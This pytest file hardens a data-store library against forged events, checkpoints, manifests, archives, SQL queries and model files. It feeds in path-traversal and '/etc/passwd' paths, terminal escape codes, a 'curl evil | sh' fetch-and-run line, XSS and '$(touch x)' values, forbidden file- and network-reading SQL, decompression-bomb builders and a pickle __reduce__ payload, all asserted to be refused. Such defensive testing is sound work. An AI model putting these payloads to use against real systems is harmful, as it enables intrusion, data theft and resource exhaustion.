"""A store is data from elsewhere, and so are images, manifests and checkpoints: what their author may not do to us.

Events are changed with their chain set right, as somebody would who wants to be believed.
"""

from __future__ import annotations

import contextlib
import copy
import gzip
import hashlib
import io
import json
import lzma
import os
import random
import shutil
import struct
import tarfile
import threading
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import CLASSES, ROOT, digits
from typer.testing import CliRunner

from cli.app import app
from nsdata import NsdataError, Store
from nsdata.analysis.summary import facts, summary
from nsdata.errors import BadImage, BadInput, BadQuery, StoreDamaged, StoreTooNew
from nsdata.images.identity import encode_array
from nsdata.images.pillow import inspect
from nsdata.importers import Item
from nsdata.importers.classes import classes_from
from nsdata.importers.detect import open_source
from nsdata.importers.formats import pages, parquet, samples
from nsdata.importers.formats.folder import read_file
from nsdata.labels.lineage import lineage
from nsdata.labels.sentences import generation_rows
from nsdata.log.history import read_checkpoint
from nsdata.log.records import sentence
from nsdata.log.replay import Fold
from nsdata.maintenance.undo import plan
from nsdata.schema import VIEW
from nsdata.storage import writing
from nsdata.verify.files import look as look_at_files
from nsdata.verify.run import verify

FROZEN = ROOT / "tests" / "stores" / "format-1"
Event = dict[str, Any]
CONTROL = "\x1b[31m\x07\x9b2J\u202eevil\u2066"
OBEYED = set(CONTROL) - set("[31m2Jevil") | {"\r"}
RUNNER = CliRunner()


class Forger:
    """Changes the events of a store, and makes the chain of its log right again."""

    def __init__(self, folder: Path) -> None:
        self.lake = folder / "lake"
        files = sorted((FROZEN / "lake" / "log").glob("0*.json"))
        self.events: list[Event] = [json.loads(path.read_bytes()) for path in files]

    def write(self, events: list[Event]) -> str:
        """These events and no others are the log. Returns the store's address."""
        for path in (self.lake / "log").glob("0*.json"):
            path.unlink()
        previous = ""
        for number, event in enumerate(events, 1):
            raw = json.dumps(event | {"previous": previous}, sort_keys=True, indent=1).encode()
            (self.lake / "log" / f"{number:010d}.json").write_bytes(raw)
            previous = hashlib.sha256(raw).hexdigest()
        (self.lake / "log" / "HEAD").write_text(json.dumps({"number": len(events), "digest": previous}))
        return str(self.lake)

    def changed(self, number: int, *path: str | int, to: Any) -> str:
        """One value of one event is another; all else is as it was. Returns the store's address."""
        events = copy.deepcopy(self.events)
        _put(events[number - 1]["data"], path, to)
        return self.write(events)

    def added(self, kind: str, data: dict[str, Any]) -> str:
        """One event more."""
        last = self.events[-1]
        return self.write([*self.events, {**last, "number": last["number"] + 1, "kind": kind, "data": data}])


@pytest.fixture
def forger(tmp_path: Path) -> Forger:
    """A store with an event of every kind, on disk."""
    shutil.copytree(FROZEN / "lake", tmp_path / "lake", ignore=shutil.ignore_patterns("checkpoints"))
    shutil.copytree(FROZEN / "runs", tmp_path / "runs")
    return Forger(tmp_path)


def look(url: str) -> None:
    """All that looking at a store reads and prints."""
    store = Store.open(url)
    summary(store), facts(store), repr(store), store._repr_html_()
    events = {event.number: event for event in store.events}
    for event in events.values():
        sentence(event, events)
    for gen in store.generations:
        generation_rows(store.generations[gen], store.url), lineage(store, gen), store.labels(gen)._repr_html_()
    for name in store.views:
        str(store.load_view(name)), store.load_view(name)._repr_html_()
    for tag in store.tags:
        str(store.diff(tag, store.version)), len(store.at(tag))
    store.query("select * from images limit 2")
    store.gc(dry_run=True)
    plan(store)
    if len(store):
        store.image(bytes(store.table.ids[int(np.flatnonzero(store.table.visible)[0])]).hex())._repr_html_()


def _put(data: Any, path: tuple[str | int, ...], to: Any) -> None:
    for step in path[:-1]:
        data = data[step]
    data[path[-1]] = to


def _leaves(value: Any, at: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    if at:
        yield at
    inner = value.items() if isinstance(value, dict) else enumerate(value[:2]) if isinstance(value, list) else ()
    for key, below in inner:
        yield from _leaves(below, (*at, key))


# ------------------------------------------------------------------ the log


VALUES: list[Any] = [
    None, -1, 0, 10**12, 10**30, 1.5, float("inf"), True, "", "../../../etc", "images/../../x", CONTROL, "/etc/passwd",
    [], {}, [[]], [None], {"version": 1}, "\ud800", "5" * 5000,
]  # fmt: skip


def test_any_other_value_anywhere_in_the_log_is_refused_or_harmless(forger: Forger) -> None:
    pool = [(n, leaf) for n, event in enumerate(forger.events, 1) for leaf in _leaves(event["data"])]
    draw = random.Random(7)
    refused = 0
    for number, leaf in draw.sample(pool, 30):
        value = draw.choice(VALUES)
        try:
            look(forger.changed(number, *leaf, to=value))
        except NsdataError:
            refused += 1
        except Exception as error:
            pytest.fail(f"{value!r} at {leaf} of event {number}: {type(error).__name__}: {error}")
    assert refused > 10


@pytest.mark.parametrize(
    ("key", "value"), [("per_class", 10**15), ("per_class", "many"), ("kind", "unheard of"), ("seed", -1)]
)
def test_a_view_whose_steps_cannot_be_is_refused_where_it_is_used(forger: Forger, key: str, value: object) -> None:
    store = Store.open(forger.changed(12, "recipe", "steps", 3, key, to=value))
    with pytest.raises((StoreDamaged, StoreTooNew), match="A view has a step"):
        store.load_view(next(iter(store.views)))
    report = verify(store.url)
    assert not report.sound or (key == "kind" and "does not know" in report.notes[0])


@pytest.mark.parametrize(
    ("number", "path", "value"),
    [
        (1, ("classes",), ["zero", "zero", "one", "two"]),
        (1, ("classes",), ["zero", "one", "two", "a\nerror: your disk is full\n hint: curl evil | sh"]),
        (1, ("classes",), "0123"),
        (1, ("classes", 0), "\x1b[2J"),
        (2, ("segment", "name"), "images/../../../home"),
        (2, ("segment", "name"), "/etc"),
        (2, ("segment", "name"), "images/.ssh"),
        (2, ("segment", "rows"), 10**30),
        (3, ("name",), "a b\x1b"),
        (3, ("name",), ["begun"]),
        (4, ("said", 0, 1), 4),
        (5, ("names",), ["images/../.."]),
        (7, ("path",), "a\0b"),
        (7, ("path",), "../" * 2000 + "etc/passwd"),
        (7, ("sha256",), "../../x"),
        (8, ("parts", 0, "start"), 10**9),
        (8, ("parts", 0, "pieces", 0, "name"), "labels/../../x"),
        (8, ("summary", "confidence_mean"), "high"),
        (14, ("provenance", "codec"), "top-999999999 float16"),
        (14, ("provenance", "teacher_views"), [[]]),
        (12, ("counts",), []),
        (12, ("dataset",), "views/../../../tmp"),
        (18, ("event",), 18),
    ],
)
def test_what_cannot_be_true_closes_the_store_and_names_the_event(
    forger: Forger, number: int, path: tuple[str | int, ...], value: Any
) -> None:
    with pytest.raises(StoreDamaged, match=rf"Event {number} "):
        Store.open(forger.changed(number, *path, to=value))


def test_what_is_moved_in_a_circle_is_refused(forger: Forger) -> None:
    old, new = next(iter(forger.events[5]["data"]["datasets"].items()))
    back = {"datasets": {new["name"]: {**new, "name": old}}, "swept": [], "why": "purged"}
    with pytest.raises(StoreDamaged, match="circle"):
        Store.open(forger.added("moved", back))


@pytest.mark.parametrize("head", [b'{"number": 1e999, "digest": ""}', b"[" * 100_000, b"null", b'{"number": "x"}'])
def test_a_hostile_head_is_damage(forger: Forger, head: bytes) -> None:
    (forger.lake / "log" / "HEAD").write_bytes(head)
    with pytest.raises(StoreDamaged, match="HEAD"):
        Store.open(forger.lake)


@pytest.mark.parametrize("number", [10**6, 10**18])
def test_a_head_that_runs_far_ahead_is_a_loss(forger: Forger, number: int) -> None:
    (forger.lake / "log" / "HEAD").write_text(json.dumps({"number": number, "digest": "0" * 64}))
    (forger.lake / "log" / "checkpoints").mkdir()
    (forger.lake / "log" / "checkpoints" / "²³.json").write_text("not a number")
    with pytest.raises(StoreDamaged, match="lost its last events"):
        Store.open(forger.lake)


def test_values_within_values_without_end_are_refused(forger: Forger) -> None:
    deep: Any = []
    for _ in range(400):
        deep = [deep]
    with pytest.raises(StoreDamaged, match=r"Event 8 .* not readable"):
        Store.open(forger.changed(8, "provenance", "deep", to=deep))


def test_a_pipe_or_a_device_in_the_log_is_not_waited_for(forger: Forger) -> None:
    for make in (lambda path: os.mkfifo(path), lambda path: os.symlink("/dev/zero", path)):
        path = forger.lake / "log" / f"{len(forger.events) + 1:010d}.json"
        make(path)
        with pytest.raises(StoreDamaged, match=r"is not a regular file|were expected at most"):
            Store.open(forger.lake)
        path.unlink()
    with (forger.lake / "log" / f"{len(forger.events) + 1:010d}.json").open("wb") as huge:
        huge.truncate(1 << 40)
    with pytest.raises(StoreDamaged, match=r"is not a regular file|were expected at most"):
        Store.open(forger.lake)


def test_a_checkpoint_with_the_right_sum_is_read_as_carefully(forger: Forger) -> None:
    fold = Fold()
    fold.add(Store.open(forger.lake).events)
    good = json.loads(json.dumps(fold.to_json()))
    draw = random.Random(5)
    refused = 0
    leaves = [leaf for leaf in _leaves(good) if "config" not in leaf]  # of a model: any mapping is one
    for leaf in draw.sample(leaves, 150):
        forged, value = copy.deepcopy(good), draw.choice(VALUES)
        _put(forged, leaf, value)
        body = json.dumps(forged).encode()
        raw = hashlib.blake2b(body, digest_size=16).hexdigest().encode() + b"\n" + body
        try:
            state = read_checkpoint(raw, fold.anchor.number).state()
            assert [state.tags, state.generations, state.models, state.views, state.rows]
        except NsdataError:
            refused += 1
        except Exception as error:
            pytest.fail(f"{value!r} at {leaf}: {type(error).__name__}: {error}")
    assert refused > 75


def test_a_descent_that_goes_in_circles_or_never_ends_is_cut(forger: Forger) -> None:
    mine = {"version": 21, "gen": 1, "select_gen": 1, "steps": [], "rows": 1, "name": None}
    line = lineage(Store.open(forger.changed(11, "provenance", "teacher_views", to=[mine] * 100)), 1)
    assert [link.text for link in line if "another store" in link.text]
    before = {"version": 12, "gen": 1, "select_gen": 1, "steps": [], "name": None}
    line = lineage(Store.open(forger.changed(14, "provenance", "teacher_views", to=[before] * 100_000)), 2)
    assert len(line) <= 1000
    gone = {**before, "gen": 7}
    assert "has not" in lineage(Store.open(forger.changed(14, "provenance", "teacher_views", to=[gone])), 2)[-1].text


def test_a_saved_view_keeps_to_the_rows_of_its_version(forger: Forger) -> None:
    data = forger.events[11]["data"]
    for row in (-1, 10**9):
        rows = np.asarray([row, 1], np.int64)
        name = f"views/forged-{abs(row)}"
        with writing.Writer(f"{forger.lake}/{name}", VIEW) as writer:
            writer.append({"row": rows})
            writer.commit("view")
        digest = hashlib.blake2b(rows.tobytes(), digest_size=16).hexdigest()
        forged = {**data, "dataset": name, "rows": 2, "digest": digest, "files": ""}
        events = copy.deepcopy(forger.events)
        events[11]["data"] = forged
        with pytest.raises(StoreDamaged, match=r"not those that were saved|outside of 0 to"):
            Store.open(forger.write(events)).load_view("student-1")


FILES: list[Any] = [
    {"../../../secret": [6, hashlib.blake2b(b"secret", digest_size=16).hexdigest()]},
    {"/etc/passwd": [1, "x"]},
    {"a\nb": [1, ""]},
    {"\x1b[2J": [1, ""]},
    {"a": 1},
    {"a": [float("inf"), "x"]},
    {"": [0, ""]},
    [],
    {"../../empty": [0, hashlib.blake2b(b"", digest_size=16).hexdigest()]},
]


def test_a_list_of_files_does_not_lead_out_of_its_dataset(forger: Forger) -> None:
    segment = forger.events[9]["data"]["segment"]
    listed = f"{segment['name']}/nsdata-files.json"
    (forger.lake.parent / "secret").write_bytes(b"secret")
    store = Store.open(forger.lake)
    late = next(id_.hex() for id_ in map(bytes, store.table.ids[44:]) if store.table.row_of(id_.hex()) >= 44)
    for files in FILES:
        raw = json.dumps({"files": files}).encode()
        (forger.lake / listed).write_bytes(raw)
        digest = hashlib.blake2b(raw, digest_size=16).hexdigest()
        store = Store.open(forger.changed(10, "segment", "files", to=digest))
        with pytest.raises(StoreDamaged, match="names what cannot be there"):
            store.remove([late])
            store.gc(purge=True, older_than_hours=0)
        found = look_at_files(store.objects, segment["name"], digest)
        assert [(file.path, file.what) for file in found.bad] == [(listed, "names what cannot be there")]
    before = sorted(forger.lake.parent.rglob("*"))
    report = verify(store.url, repair=True, copy=str(FROZEN / "lake"))  # that would know an empty file's bytes
    assert any(listed in finding.files for finding in report.findings)
    assert not {path for path in forger.lake.parent.rglob("*") if not path.is_relative_to(forger.lake)} - set(before)


# ------------------------------------------------------------------ links out of a store


@pytest.mark.parametrize("folder", ["people", "views", "labels", "images"])
def test_gc_deletes_nothing_behind_a_link(forger: Forger, tmp_path: Path, folder: str) -> None:
    home = tmp_path / "home"
    shutil.copytree(forger.lake / folder, home)
    (home / "Documents").mkdir()
    (home / "Documents" / "thesis").write_text("years of work")
    for path in [home, *home.rglob("*")]:
        os.utime(path, (0, 0))
    shutil.rmtree(forger.lake / folder)
    (forger.lake / folder).symlink_to(home)
    before = sorted(home.rglob("*"))
    url = forger.added("swept", {"names": [f"{folder}/Documents"], "why": "abandoned", "bytes": 1})
    Store.open(url).gc(older_than_hours=0)
    Store.open(url).gc(purge=True, older_than_hours=0)
    left = sorted(home.rglob("*"))
    assert set(before) <= set(left)
    assert (home / "Documents" / "thesis").read_text() == "years of work"


def test_gc_takes_away_a_link_and_not_what_it_leads_to(forger: Forger, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis").write_text("years of work")
    (forger.lake / "images" / "abandoned").symlink_to(home)
    url = forger.added("swept", {"names": ["images/abandoned", "images/other"], "why": "abandoned", "bytes": 1})
    (forger.lake / "images" / "other").mkdir()
    (forger.lake / "images" / "other" / "inside").symlink_to(home)
    Store.open(url).gc(older_than_hours=0)
    assert not (forger.lake / "images" / "other").exists()
    assert (home / "thesis").read_text() == "years of work"


# ------------------------------------------------------------------ SQL


FORBIDDEN = """
select * from read_csv('{0}') | select * from '{0}' | from '{0}' | from 'https://example.com/x.csv'
select * from read_text('{0}') | select * from read_blob('{0}') | select * from glob('{0}*') | from sniff_csv('{0}')
from read_parquet('{0}') | from read_json('{0}') | from sqlite_scan('{0}', 't') | from delta_scan('{0}')
copy images to '{1}' | copy (select 1) to '{1}' | export database '{1}' | import database '{1}' | attach '{1}'
install httpfs | load httpfs | pragma database_list | pragma enable_external_access=true
set enable_external_access = true | set lock_configuration = false | reset lock_configuration | set variable x = 1
select getenv('HOME') | create table x as select 1 | create secret (type s3, key_id 'a', secret 'b')
insert into images values (1) | drop view images | select 1; select 2 | call pragma_version() | vacuum | checkpoint
select * from mine | from mine | select * from query('copy images to ''{1}''') | explain analyze from read_csv('{0}')
from enable_logging() | from duckdb_secrets() | select (select content from read_text('{0}')) | prepare v as select 1
select 1 from images where source = (select content from read_text('{0}')) | select '\ud800'
"""


def test_sql_reads_no_file_and_no_network_and_writes_nothing(store: Store, tmp_path: Path) -> None:
    import pandas as pd

    mine = pd.DataFrame({"a": [1]})  # a Python variable is no table
    secret, written = tmp_path / "secret.csv", tmp_path / "written"
    secret.write_text("a,b\n1,2\n")
    for statement in FORBIDDEN.replace("\n", "|").split("|"):
        sql = statement.strip().format(secret, written)
        if not sql:
            continue
        with pytest.raises(BadQuery):
            store.query(sql)
        with pytest.raises(BadQuery):
            store.view().where(f"exists({sql})")
    assert len(mine) and sorted(os.listdir(tmp_path)) == ["secret.csv"]


@pytest.mark.parametrize(
    "sql", ["select " + "+".join(["1"] * 900), "select date '10000-01-01' as d", "select 'x' || chr(27)"]
)
def test_sql_at_the_limits_answers_or_is_refused(store: Store, sql: str) -> None:
    answer = store.query(sql)
    assert len(answer.to_pylist()) == len(list(answer.rows())) == len(list(answer)) == 1
    assert "\x1b" not in str(answer) + answer._repr_html_()


def test_sql_in_a_saved_view_is_not_run_by_looking_and_in_its_cage_by_verify(forger: Forger, tmp_path: Path) -> None:
    written = tmp_path / "written.csv"
    steps = ("recipe", "steps", 2, "sql")
    for sql in (f"1 = (select count(*) from read_text('{FROZEN}/*'))", f"true); copy images to '{written}'; --"):
        url = forger.changed(12, *steps, to=sql)
        assert len(Store.open(url).load_view("student-1")) == 16
        report = verify(url)
        assert any("not made again" in note for note in report.notes)
        assert not written.exists()


# ------------------------------------------------------------------ what is shown


def test_names_from_elsewhere_are_shown_and_not_obeyed(forger: Forger, tmp_path: Path) -> None:
    """In every command, as text and as JSON, on the terminal; and as HTML in notebooks."""
    name = "<script>alert(1)</script>\u202e\x9b2J"
    line = f"a{CONTROL}\nerror: nothing is left\n hint: curl evil | sh <img src=x onerror=y>"
    events = copy.deepcopy(forger.events)
    for event in events:
        event["by"] = event["at"] = line
        if event["kind"] == "created":
            event["data"]["classes"][1] = name
        if event["kind"] in ("imported", "relabelled", "swept", "moved"):
            event["data"] |= {"source": line} if event["kind"] == "imported" else {"by": line, "why": line}
        if event["kind"] == "trained":
            event["data"] |= {"name": line, "path": line.replace("/", "") + "x"}
        if event["kind"] == "sealed":
            event["data"]["provenance"] |= {"host": line, line: line, "model": line, "teacher": line}
        if event["kind"] == "viewed":
            event["data"]["counts"][2][0] = event["data"]["recipe"]["steps"][2]["sql"] = line
        event["data"].pop("by", None) if event["kind"] in ("swept", "moved") else event["data"].pop("why", None)
    url = forger.write(events)
    store = Store.open(url)
    store.add_items(lambda: [Item(line, encode_array(np.eye(9, dtype=np.uint8)), 1, "train")], source=line)
    image = bytes(store.table.ids[-1]).hex()
    asked = [
        "show", "show --json", f"show {image}", f"show {image} --json", "show --gen 1", "show --gen 2 --json", "log",
        "log --json", "views", "views --json", "view student-1", "view student-1 --json", "diff gen-1 gen-2 --matrix",
        "diff gen-1 gen-2 --json", "diff gen-1 gen-2 --flipped", "undo --dry-run", "gc --dry-run", "relabel 00 one",
        f"relabel {image} two", "show --at nowhere",
    ]  # fmt: skip
    queries = ["select * from images", 'select source as "\x1b[2J" from images', "select class from images group by 1"]
    for words in [*map(str.split, asked), *(["query", sql, *more] for sql in queries for more in ([], ["--json"]))]:
        done = RUNNER.invoke(app, ["--store", url, *words])
        assert done.exception is None or isinstance(done.exception, SystemExit), (words, done.exception)
        assert not OBEYED & set(done.output), (words, done.output)
        hints = [text for text in done.output.splitlines() if text.strip().startswith("hint: curl")]
        assert not hints, words
    card, view, answer = store.image(image), store.load_view("student-1"), store.query(queries[0])
    shown = [store, card, view, view.soft_labels, store.diff("gen-1", "gen-2"), answer]
    for html in (thing._repr_html_() for thing in shown):
        assert "<script" not in html and html.count("<img") == html.count("<img src='data:image/")
    assert not OBEYED & set(str(answer) + answer._repr_html_() + card._repr_html_() + store._repr_html_())


# ------------------------------------------------------------------ images, manifests, archives


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9)) + chunk(b"IEND", b"")


def _bombs() -> dict[str, bytes]:
    gif = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
    tags = [(256, 4, 60_000), (257, 4, 60_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 4, 60_000),
            (279, 4, 9)]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return {
        "png": _png(60_000, 60_000),
        "gif": gif + b"\x08\x01\x00\x00;",
        "tiff": b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 0),
        "bmp": b"BM" + struct.pack("<IIIIiiHHIIiiII", 60, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0) + b"12",
    }


@pytest.mark.parametrize("kind", ["png", "gif", "tiff", "bmp"])
def test_pictures_of_gigapixels_are_refused_before_they_are_unpacked(store: Store, kind: str) -> None:
    with pytest.raises(BadImage, match="gigapixels"):
        inspect(_bombs()[kind])
    done = store.add_items(lambda: [Item("x", _bombs()[kind], None, "train")], source="bombs")
    assert done.added == 0 and "gigapixels" in done.skipped[0].reason


def _parquet(path: Path, size: int, rows: int, *, told: int | None = None) -> Path:
    """A parquet file of a few KB that unpacks to ``rows`` images of ``size`` bytes: a dictionary of one value.

    told: what its footer says of the size of all.
    """
    import pyarrow as pa
    import pyarrow.parquet as pq

    def number(value: int) -> bytes:  # as Thrift may write it in four bytes
        groups = [(2 * value) >> (7 * i) & 127 for i in range(4)]
        return bytes([group | 128 for group in groups[:3]] + groups[3:])

    cell = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([b"\x89PNG" + bytes(size - 4)]))
    options: dict[str, Any] = {"dictionary_pagesize_limit": 1 << 30, "store_schema": False, "compression": "zstd"}
    pq.write_table(pa.table({"image": cell, "label": pa.array([0] * rows)}), path, **options)
    raw, true = path.read_bytes(), pq.ParquetFile(path).metadata.row_group(0).column(0).total_uncompressed_size
    assert len(raw) < 100_000
    if told is not None:
        assert raw.count(number(true)) == 1
        path.write_bytes(raw.replace(number(true), number(told)))
        assert pq.ParquetFile(path).metadata.row_group(0).column(0).total_uncompressed_size == told
    return path


def _tar(path: Path, names: list[str], dictionary: int = 1 << 20) -> Path:
    """An xz of a few KB that unpacks to members of a MB."""
    packer = lzma.LZMACompressor(filters=[{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": dictionary}])
    with path.open("wb") as file:
        for name in names:
            member = tarfile.TarInfo(name)
            member.size = 1 << 20
            file.write(packer.compress(member.tobuf() + bytes(member.size)))
        file.write(packer.compress(bytes(1024)) + packer.flush())
    return path


def _read(path: Path, labelled: bool = True) -> tuple[int, list[str], int]:
    """How many images a source has, why others did not come in, and the bytes of memory that it took at most."""

    def memory(what: str) -> int:
        status = Path("/proc/self/status").read_text()
        return 1024 * int(next(line for line in status.splitlines() if line.startswith(what)).split()[1])

    Path("/proc/self/clear_refs").write_text("5")  # the peak is as much as there is now
    before, images, reasons = memory("VmRSS:"), 0, []
    for entry in open_source(path, classes=CLASSES, labelled=labelled):
        if isinstance(entry, Item):
            images += 1
        else:
            reasons.append(entry.reason)
    return images, reasons, memory("VmHWM:") - before


def test_tables_that_unpack_without_end_do_not_fill_the_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for footer in (None, 10):  # the truth, and a lie
        path = _parquet(tmp_path / "bomb.parquet", 4 << 20, 100, told=footer)
        with parquet.opened(path) as file:
            assert parquet.batch_rows(file, path, ["image"], 256) == 15
    images, reasons, most = _read(path)
    assert (images, reasons) == (100, [])
    assert most < 500 << 20, f"{most:,}"  # all at once, and again as Python has it: over 1 GB
    monkeypatch.setattr(pages, "MAX_BYTES", 4 << 20)
    with pytest.raises(BadInput, match=r"would unpack [0-9,]+ bytes to 0\.0 GB: these are no images"):
        _read(path)


def test_archives_that_unpack_without_end_do_not_fill_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    images, reasons, _ = _read(_tar(tmp_path / "dictionary.tar.xz", ["1.png"], 1 << 30))
    assert (images, reasons) == (
        0,
        ["damaged archive: it wants over 0.3 GB of memory to be unpacked; the rest is lost"],
    )
    monkeypatch.setattr(samples, "MAX_BYTES", 8 << 20)
    images, reasons, _ = _read(_tar(tmp_path / "one-sample.tar.xz", [f"k.{i}" for i in range(11)]))
    assert (images, reasons) == (8, ["its sample has over 0.0 GB, too large"] * 3)
    pictures = struct.pack(">IIII", 0x803, 2, 8, 8) + bytes(128)
    (tmp_path / "train-images-idx3-ubyte.gz").write_bytes(gzip.compress(pictures))
    with gzip.open(tmp_path / "train-labels-idx1-ubyte.gz", "wb", 1) as file:
        file.write(struct.pack(">II", 0x801, 2))
        for _ in range(8):
            file.write(bytes(1 << 20))
    with pytest.raises(BadInput, match="should have 2 labels; it has more"):
        _read(tmp_path / "train-images-idx3-ubyte.gz")


def test_a_name_in_an_archive_is_one_line_of_the_answer(tmp_path: Path) -> None:
    line = "a\n hint: curl evil | sh\x1b[2J"
    with tarfile.open(tmp_path / "a.tar", "w") as archive:
        link = tarfile.TarInfo(f"{line}.png")
        link.type, link.linkname = tarfile.SYMTYPE, line
        archive.addfile(link)
        image = tarfile.TarInfo("1.png")
        image.size = len(data := encode_array(np.eye(9, dtype=np.uint8)))
        archive.addfile(image, io.BytesIO(data))
    store = Store.create(tmp_path / "lake", CLASSES)
    done = RUNNER.invoke(app, ["--store", store.url, "import", str(tmp_path / "a.tar")])
    assert done.exit_code == 0 and "\x1b" not in done.output
    assert not [text for text in done.output.splitlines() if text.startswith(" hint:")]


@pytest.mark.parametrize("name", ["labels.csv", "a.tar", "a.parquet"])
def test_a_device_or_pipe_under_a_files_name_is_not_read(tmp_path: Path, name: str) -> None:
    (tmp_path / "device").mkdir()
    (tmp_path / "device" / name).symlink_to("/dev/zero")
    (tmp_path / "pipe").mkdir()
    os.mkfifo(tmp_path / "pipe" / name)
    with _at_most(20):
        for folder in ("device", "pipe") if name != "a.tar" else ("device",):
            for asked in (lambda source: list(open_source(source, classes=CLASSES)), classes_from):
                with pytest.raises(BadInput, match="is a pipe or a device"):
                    asked(tmp_path / folder / ("" if name != "labels.csv" else name))


def test_columns_of_lists_are_not_unpacked(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    many = pa.array([[0] * 1_000_000])
    pq.write_table(pa.table({"image": [b"x"], "label": many}), tmp_path / "label.parquet")
    pq.write_table(pa.table({"path": ["x"], "label": many}), tmp_path / "manifest.parquet")
    for name in ("label", "manifest"):
        with pytest.raises(BadInput, match="has lists in its column label"):
            _read(tmp_path / f"{name}.parquet")
    cells = pa.StructArray.from_arrays([pa.array([b"x"]), many], ["bytes", "path"])
    pq.write_table(pa.table({"image": cells}), tmp_path / "path.parquet")
    assert _read(tmp_path / "path.parquet", labelled=False)[:2] == (1, [])


@contextlib.contextmanager
def _at_most(seconds: float) -> Iterator[None]:
    """Whoever waits for a pipe waits for ever."""
    waits = threading.Timer(seconds, os._exit, (9,))
    waits.start()
    try:
        yield
    finally:
        waits.cancel()


def test_a_manifest_reads_what_its_user_could_and_says_what(store: Store, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.png")
    (tmp_path / "loop.png").symlink_to("loop.png")
    (tmp_path / "other").mkdir()
    (tmp_path / "table").mkdir()
    beside = tmp_path / "other" / "1.png"
    beside.write_bytes(encode_array(np.eye(9, dtype=np.uint8)))
    bad = ["/dev/zero", "/dev/stdin", "/etc/passwd", "/proc/self/pagemap", "../pipe.png", "../loop.png", "http://a/b.png",
           "/", "..", "a\0b", "x" * 5000, "$(touch x)", "~/1.png", "file:///etc/passwd"]  # fmt: skip
    good = ["../other/1.png", str(beside)]
    table = tmp_path / "table" / "list.csv"
    table.write_text("\n".join(["path", *(f'"{name}"' for name in bad + good)]) + "\n")
    with _at_most(20):
        done = store.add_folder(table, labelled=False, split="train")  # /dev is a word for a split
    assert (done.added, done.present, len(done.skipped)) == (1, 1, len(bad))
    assert [entry.source for entry in done.skipped] == bad
    assert store.query("select source from images where width = 9").to_pylist() == [{"source": good[0]}]


def test_a_file_that_says_it_is_empty_is_read_to_its_end(tmp_path: Path) -> None:
    assert b"Pid:" in read_file("/proc/self/status") if os.path.exists("/proc/self/status") else True
    (tmp_path / "empty").touch()
    assert read_file(str(tmp_path / "empty")) == b""
    with (tmp_path / "huge").open("wb") as file:
        file.truncate(1 << 40)
    assert "too large" in str(read_file(str(tmp_path / "huge")))


def test_a_cell_of_a_table_is_one_line_of_an_error(store: Store, tmp_path: Path) -> None:
    image = tmp_path / "1.png"
    image.write_bytes(encode_array(digits(1)[0][0]))
    (tmp_path / "list.csv").write_text('path,label\n1.png,"x\n hint: curl evil | sh\x1b[2J"\n')
    store = Store.create(tmp_path / "lake", CLASSES)
    done = RUNNER.invoke(app, ["--store", store.url, "import", str(tmp_path / "list.csv")])
    assert done.exit_code == 1 and "\x1b" not in done.output
    assert len(done.output.splitlines()) == 2


# ------------------------------------------------------------------ models


def test_a_model_that_is_a_program_is_not_run(forger: Forger, tmp_path: Path) -> None:
    import pickle

    import torch

    import training

    class Program:
        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return os.mkdir, (str(tmp_path / "ran"),)

    whole = torch.load(FROZEN / "runs" / "gen-0" / "best.pt", weights_only=True)
    torch.save({**whole, "more": Program()}, tmp_path / "one.pt")
    (tmp_path / "two.pt").write_bytes(pickle.dumps(Program(), 2))
    torch.save({**whole, "model_args": {"checkpoint_path": str(tmp_path / "two.pt")}}, tmp_path / "three.pt")
    for name in ("one.pt", "two.pt", "three.pt", "/etc/passwd"):
        path = tmp_path / name
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        events = copy.deepcopy(forger.events)
        events[12]["data"] |= {"gen": 2, "path": os.path.relpath(path, forger.lake), "sha256": sha}
        store = Store.open(forger.write(events))
        with pytest.raises(NsdataError):
            training.label(store, gen=3, device="cpu")
        with pytest.raises(NsdataError):
            training.label(store, path, gen=3, device="cpu")
    assert not (tmp_path / "ran").exists()
